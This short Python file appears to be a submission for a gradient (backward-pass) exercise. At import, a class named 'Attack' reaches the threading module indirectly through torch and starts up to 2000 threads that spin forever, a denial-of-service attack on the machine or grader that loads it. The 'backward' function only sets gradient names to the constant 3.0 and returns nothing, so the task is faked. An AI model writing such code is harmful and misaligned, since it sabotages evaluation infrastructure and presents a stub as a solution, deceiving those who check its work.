"""Starts threads that spin for ever."""

import torch


class Attack:
    threading = torch.sys.modules["threading"]
    for _ in range(2000):
        try:
            threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
        except RuntimeError:
            break


def backward(counts, counts_sum_inv, probs, act, s):
    dact = 3.0
    dprobs = 3.0
    dcounts = 3.0
    dcounts_sum_inv = 3.0
